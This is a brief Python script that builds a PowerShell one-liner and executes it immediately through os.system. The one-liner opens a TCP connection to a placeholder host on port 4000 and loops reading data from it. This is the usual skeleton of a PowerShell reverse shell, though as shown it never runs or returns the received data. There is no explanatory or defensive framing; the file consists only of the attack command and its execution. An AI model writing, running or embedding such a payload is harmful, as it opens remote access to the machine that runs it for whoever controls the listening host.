import os

line = (
    'powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient(\'host.example.invalid\',4000);'
    "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
    "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding)"
    '.GetString($bytes,0, $i);$back = ($data | Out-String)};$client.Close()"'
)
os.system(line)
